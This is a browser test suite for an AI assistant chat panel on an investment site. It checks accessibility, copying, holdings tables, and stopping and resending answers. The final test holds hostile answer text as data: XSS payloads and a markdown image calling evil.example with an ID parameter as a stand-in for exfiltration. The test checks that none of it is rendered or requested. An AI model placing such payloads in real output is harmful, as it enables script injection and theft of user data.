import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { chatTexts } from '../../src/web/platform/texts/assistant/chat.ts';
import { copyButtonTexts } from '../../src/web/platform/texts/platform/copy-button.ts';
import { informationTexts } from '../../src/web/platform/texts/people/information.ts';
import { signIn, type Account } from '../support/accounts.ts';
import { expectAccessible } from '../support/axe.ts';
import { startBrowser } from '../support/browser.ts';
import { startDemoSite } from '../support/demo-site.ts';
import { readText } from '../support/read-text.ts';
import type { Site } from '../support/site.ts';
import { DESKTOP, PHONE, visit, type Look } from '../support/visit.ts';

let browser: Browser;
let site: Site;
let owner: Account;

beforeAll(async () => {
  browser = await startBrowser();
  ({ site, owner } = await startDemoSite());
});
afterAll(() => site.stop());

async function openPanel(page: Page, look: Look) {
  await signIn(page, owner);
  await page.locator('#assistant').click();
  const texts = chatTexts[look.language];
  const panel = page.getByRole('dialog', { name: texts.title });
  const log = panel.getByRole('log');
  await log.getByText(texts.greeting).waitFor();
  return { texts, panel, log, field: panel.getByRole('textbox') };
}

/** Responds to chat requests with these events. */
async function sendEvents(page: Page, answer: { content: string; sources?: unknown[] }): Promise<void> {
  const body =
    `:\n\nevent: progress\ndata: {"tool":"list_holdings"}\n\nevent: piece\ndata: ${JSON.stringify({ text: answer.content })}\n\n` +
    `data: ${JSON.stringify(answer)}\n\n`;
  await page.route('**/api/ai/chat', (route) =>
    route.fulfill({ contentType: 'text/event-stream; charset=utf-8', body }),
  );
}

test('three example questions are answered by keyboard; the answer can be copied, and has follow-up questions', async () => {
  await visit({ browser, site }, async ({ page }) => {
    const { texts, panel, log } = await openPanel(page, DESKTOP);
    for (const example of texts.examples) await panel.getByRole('button', { name: example }).waitFor();
    await expectAccessible(page);
    await panel.getByRole('button', { name: texts.examples[0]! }).focus();
    await page.keyboard.press('Enter');
    await expect.poll(() => readText(log)).toMatch(/\d EUR/);
    expect(await panel.getByRole('button', { name: texts.examples[1]! }).count()).toBe(0);
    await panel.getByRole('button', { name: texts.again }).waitFor();
    await expectAccessible(page);

    await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
    await log.getByRole('button', { name: copyButtonTexts.en.copy }).press('Enter');
    await log.getByRole('status').getByText(copyButtonTexts.en.copied).waitFor();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toMatch(
      /^What everything is worth:\n.*\d\sEUR/,
    );
    const next = log.getByRole('list', { name: texts.next }).getByRole('button');
    const question = (await next.first().textContent()) ?? '';
    await next.first().press('Enter');
    await log.getByRole('table').waitFor();
    await expect.poll(() => readText(log)).toContain(`${texts.you}: ${question}`);
    await expectAccessible(page);

    const height = async () => (await panel.boundingBox())!.height;
    await panel.getByRole('button', { name: texts.higher }).press('Enter');
    await expect.poll(height).toBe(page.viewportSize()!.height - 96);
    await expectAccessible(page);
    await page.reload();
    await page.locator('#assistant').click();
    await expect.poll(height).toBe(page.viewportSize()!.height - 96);
    await panel.getByRole('button', { name: texts.lower }).press('Enter');
    await expect.poll(height).toBe(420);
  });
});

describe.each([DESKTOP, PHONE])('at $width pixels, in $language', (look) => {
  test('an answer links to its holdings, also in a table', async () => {
    await visit({ browser, site, look }, async ({ page }) => {
      const { log, field, panel } = await openPanel(page, look);
      const sources = [
        { kind: 'bond', id: 1, isin: 'BG2030026111', expired: false },
        { kind: 'etf', id: 1, isin: 'IE00B4L5Y983', expired: false },
      ];
      await sendEvents(page, {
        content: 'These:\n| ISIN | YTM |\n|---|--:|\n| BG2030026111 | 2.37% |\n| <b>x</b> | 4.50% |',
        sources,
      });
      await field.fill('Which?');
      await field.press('Enter');
      await log.getByRole('table').getByRole('cell', { name: '<b>x</b>' }).waitFor();
      expect(await log.getByRole('link', { name: 'IE00B4L5Y983' }).getAttribute('href')).toBe(
        '/my/etfs?q=IE00B4L5Y983',
      );
      await expectAccessible(page);
      await log.getByRole('table').getByRole('link', { name: 'BG2030026111' }).click();
      await page.waitForURL('**/bond/1');
      expect(await panel.isVisible()).toBe(look.width === 1440);
    });
  });
});

test('what the assistant sees is shown; Escape closes only that dialog, and the focus returns', async () => {
  await visit({ browser, site, look: PHONE }, async ({ page }) => {
    const { texts, panel } = await openPanel(page, PHONE);
    const opener = panel.getByRole('button', { name: texts.sees.link });
    await opener.click();
    const sees = page.getByRole('dialog', { name: texts.sees.title });
    await sees.getByText(texts.sees.nothing).waitFor();
    await expectAccessible(page);
    await page.keyboard.press('Escape');
    await sees.waitFor({ state: 'hidden' });
    expect(await panel.isVisible()).toBe(true);
    expect(await opener.evaluate((element) => element === document.activeElement)).toBe(true);
    await page.goto('/privacy');
    await page.getByText(informationTexts[PHONE.language].privacy.assistant.nowhere).waitFor();
  });
});

test('a long answer is shown from its beginning, and the rest of its rows on request', async () => {
  await visit({ browser, site, look: PHONE }, async ({ page }) => {
    const { texts, panel, log, field } = await openPanel(page, PHONE);
    await panel.getByText(texts.noAdvice).waitFor();
    const rows = Array.from(
      { length: 16 },
      (_, row) => `| BG20400${10_000 + row} | ${row + 1}.12.2025\u00a0г. | 1.00 EUR |`,
    );
    await sendEvents(page, {
      content: ['First line', '| ISIN | Day | Sum |', ...rows, 'Last line'].join('\n'),
    });
    for (const question of ['One?', 'Two?']) {
      await field.fill(question);
      await field.press('Enter');
      await expect.poll(() => log.getByText('Last line').count()).toBe(question === 'One?' ? 1 : 2);
      const top = (await log.boundingBox())!.y;
      const below = async () => (await log.getByText(question).boundingBox())!.y - top;
      await expect.poll(below).toBeGreaterThanOrEqual(0);
      await expect.poll(below).toBeLessThan(40);
    }
    const answer = log.getByRole('table').last();
    expect(await answer.getByRole('row').count()).toBe(11);
    const cell = answer.getByRole('cell', { name: 'BG2040010000' });
    expect((await cell.boundingBox())!.height).toBeLessThan(40);
    await log
      .getByRole('button', { name: texts.moreRows(6) })
      .last()
      .click();
    await expect.poll(() => answer.getByRole('row').count()).toBe(17);
    await expectAccessible(page);
    await log.getByRole('button', { name: texts.fewerRows }).click();
    await expect.poll(() => answer.getByRole('row').count()).toBe(11);
  });
});

test('an answer is stopped, and the question asked again', async () => {
  await visit({ browser, site }, async ({ page }) => {
    const { texts, panel, log, field } = await openPanel(page, DESKTOP);
    const sent: unknown[] = [];
    await page.route('**/api/ai/chat', async (route) => {
      sent.push(route.request().postDataJSON());
      if (sent.length > 1) await route.fulfill({ json: { content: 'An answer' } });
    });
    await field.fill('How much?');
    await field.press('Enter');
    await log.getByText(texts.thinking).waitFor();
    await panel.getByRole('button', { name: texts.stop }).click();
    await log.getByText(texts.stopped).waitFor();
    expect(await panel.getByRole('button', { name: texts.stop }).count()).toBe(0);
    await panel.getByRole('button', { name: texts.again }).click();
    await log.getByText('An answer').waitFor();
    expect(await log.getByText(texts.stopped).count()).toBe(0);
    expect(sent).toEqual(Array(2).fill({ messages: [{ role: 'user', content: 'How much?' }] }));
  });
});

test('the text of an answer becomes no markup, no link and no request (SEC-106)', async () => {
  const hostile =
    '<img src=/evil onerror=alert(1)> ![x](https://evil.example/?d=EGN) [a](javascript:alert(1))\n| <img src=/evil> | [b](javascript:alert(1)) |\n| ![y](https://evil.example/) | <script>alert(1)</script> |';
  await visit({ browser, site }, async ({ page }) => {
    const { log, field } = await openPanel(page, DESKTOP);
    const elsewhere: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('evil')) elsewhere.push(request.url());
    });
    await sendEvents(page, { content: hostile, sources: [] });
    await field.fill('Hello');
    await field.press('Enter');
    await log.getByRole('table').waitFor();
    expect(await log.locator('img, a, script, iframe').count()).toBe(0);
    for (const text of [
      '<img src=/evil onerror=alert(1)>',
      '![y](https://evil.example/)',
      '<script>alert(1)</script>',
    ])
      await expect.poll(() => readText(log)).toContain(text);
    expect(elsewhere).toEqual([]);
  });
});
